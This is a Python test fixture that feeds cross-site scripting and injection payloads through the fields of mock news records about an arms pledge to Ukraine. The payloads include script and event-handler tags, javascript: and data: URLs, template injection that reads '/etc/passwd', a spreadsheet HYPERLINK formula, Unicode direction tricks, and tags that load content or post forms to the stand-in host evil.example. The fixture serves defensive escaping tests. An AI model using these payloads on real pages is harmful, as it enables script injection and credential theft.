"""Texts that would become markup, code or another order of letters on a page that trusts what it shows."""

from __future__ import annotations

from collections.abc import Iterator

from ledger_readings import reading

from communique import Reading

PAYLOADS = (
    "<script>document.title='taken'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>document.title=1</scr</script>ipt>",
    "</title><script>document.title='taken'</script>",
    "</textarea><script>document.title='taken'</script>",
    "</pre><script>document.title='taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=document.title=1><circle r=9 /></svg>",
    "<svg><script>document.title=1</script></svg>",
    "<svg><animate onbegin=document.title=1 attributeName=x></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=document.title=1></style></math>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=form_token></form>",
    "<button formaction=//evil.example>Read on</button>",
    "<a href=javascript:document.title=1>source</a>",
    "<a href='data:text/html,<script>document.title=1</script>'>source</a>",
    "<body onload=document.title=1>",
    "<details open ontoggle=document.title=1>",
    "<video><source onerror=document.title=1></video>",
    "<input autofocus onfocus=document.title=1>",
    "<template><script>document.title=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=document.title=1>'></noscript>",
    "<!-- --><script>document.title=1</script><!-- -->",
    "<![CDATA[<script>document.title=1</script>]]>",
    "<?php echo 1 ?> <% print 1 %>",
    '" onmouseover="document.title=1" x="',
    "' onmouseover='document.title=1' x='",
    "` onmouseover=`document.title=1`",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "&lt;script&gt;document.title=1&lt;/script&gt; &#60;b&#62;",
    "\u202egnp.exe\u202c \u2066turned\u2069 \u200fround\u200e",
    "\u2067\u2067\u2067never closed",
    "a\u0301\u0302\u0303" * 40,
    "W" * 5_000,
    "ﷺ" * 300 + "\U000e0041\U0001f468\u200d\U0001f469",
    "javascript:document.title=1",
    '=HYPERLINK("http://evil.example")',
    "zero\u200bwidth\ufeffmarks\u00ad",
)
"""What stands as title, publisher, name of an actor, and in the sentence of every record."""
ADDRESSES = (
    *("javascript:document.title=1", "data:text/html,<script>1</script>", "JaVaScRiPt://x%0adocument.title=1"),
    *('https://x.example/"onmouseover="document.title=1', "vbscript:1", " javascript:1", "//evil.example"),
)


def hostile() -> Iterator[Reading]:
    """Yield a reading for each text, its address one that would run if it became a link."""
    for at, payload in enumerate(PAYLOADS):
        name = f"Ada {payload}"
        yield reading(
            f"{name} will send Ukraine 24 {payload} howitzers, {name} said. Number {at}.",
            url=ADDRESSES[at % len(ADDRESSES)],
            title=payload,
            publisher=payload,
            actors={"ada": (name, "person", "EST", ["GOV"], None), "ukr": ("Ukraine", "state", "UKR", ["GOV"], None)},
            statements=[{"speaker": "ada", "act": "promise", "cue": "said", "content": f"24 {payload} howitzers"}],
            events=[
                {
                    "key": "aid",
                    "type": "AID",
                    "status": "planned",
                    "trigger": "send",
                    "actors": ["ada"],
                    "recipients": ["ukr"],
                }
            ],
            commitments=[
                {
                    "event": "aid",
                    "donors": ["ada"],
                    "recipients": ["ukr"],
                    "stage": "pledged",
                    "at": "24",
                    "items": [(24, f"{payload} howitzers", "artillery", f"24 {payload} howitzers")],
                }
            ],
        )
